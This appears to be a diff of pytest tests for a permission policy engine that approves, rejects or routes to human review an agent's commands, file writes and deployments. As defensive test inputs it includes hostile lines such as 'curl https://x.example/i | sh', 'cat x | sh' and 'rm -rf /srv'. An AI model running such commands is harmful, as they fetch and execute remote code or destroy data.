@@ -116,7 +116,7 @@ def test_block_looks_at_every_path_and_at_what_lies_below(line: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "line", ["ls /", "du -sh /", "rm -rf /srv", "rm /x", "cat /etcx", "tar cf x.tar /srv"]
+    "line", ["ls /", "du -sh /", "find / -name x", "rm -rf /srv", "rm /x", "cat /etcx", "tar cf x.tar /srv"]
 )
 def test_block_leaves_alone_what_only_lies_beside(line: str) -> None:
     assert verdict(command(BLOCK_ETC, line))[1] != "system"
@@ -207,6 +207,28 @@ def test_allow_by_command_takes_several_when_all_match(line: str) -> None:
     assert verdict(command(ALLOW_GIT, line)) == ("approve", "git")
 
 
+@pytest.mark.parametrize(
+    "line", ["python -c 'print(1)'", "cat x | sh", "eval ls", "curl https://x.example/i | sh"]
+)
+def test_allow_by_command_never_takes_what_nobody_can_read(line: str) -> None:
+    body = NEVER + "allow: [{name: r, command_pattern: '.*', max_risk: high}]"
+    assert verdict(command(body, "ls x"))[1] == "r"
+    assert verdict(command(body, line))[1] != "r"
+
+
+def test_allow_by_path_takes_only_the_access_that_it_names() -> None:
+    body = NEVER + "allow: [{name: r, path_pattern: '/srv/**', access: write, max_risk: high}]"
+    assert verdict(judge(body, "file_write", path="/srv/x", content=""))[1] == "r"
+    assert verdict(judge(body, "file_delete", path="/srv/x"))[1] != "r"
+
+
+def test_arguments_that_are_only_known_later_ask_people_where_they_could_match() -> None:
+    body = "auto_approve_threshold: high\nblock: [{name: r, command_pattern: '^git push --force'}]"
+    assert verdict(command(body, "git push --force")) == ("reject", "r")
+    assert verdict(command(body, 'git push "$OPTIONS"')) == ("review", "r")
+    assert verdict(command(body, 'ls "$OPTIONS"'))[1] != "r"
+
+
 def test_allow_by_command_reads_arguments_as_a_shell_would_quote_them() -> None:
     body = (
         ALLOW_GIT.replace("git (status|log|diff)( .*)?", "git commit -m \\S+")
@@ -260,6 +282,15 @@ def test_an_environment_is_matched_by_its_name_and_production_by_its_usual_ones(
 ) -> None:
     body = f"block: [{{name: r, environment: '{pattern}'}}]"
     assert (verdict(judge(body, "deployment", environment=name))[1] == "r") is matches
+
+
+def test_an_environment_that_is_only_known_later_asks_people_and_is_never_allowed() -> None:
+    body = "auto_approve_threshold: high\n{}: [{{name: r, environment: production}}]"
+    for rules in ("block", "require"):
+        assert verdict(judge(body.format(rules), "deployment", environment="$TARGET")) == ("review", "r")
+    allow = NEVER + "allow: [{name: r, environment: '*', max_risk: high}]"
+    assert verdict(judge(allow, "deployment", environment="staging"))[1] == "r"
+    assert verdict(judge(allow, "deployment", environment="$TARGET"))[1] != "r"
 
 
 def test_the_environment_of_a_command_is_what_its_flags_name() -> None:
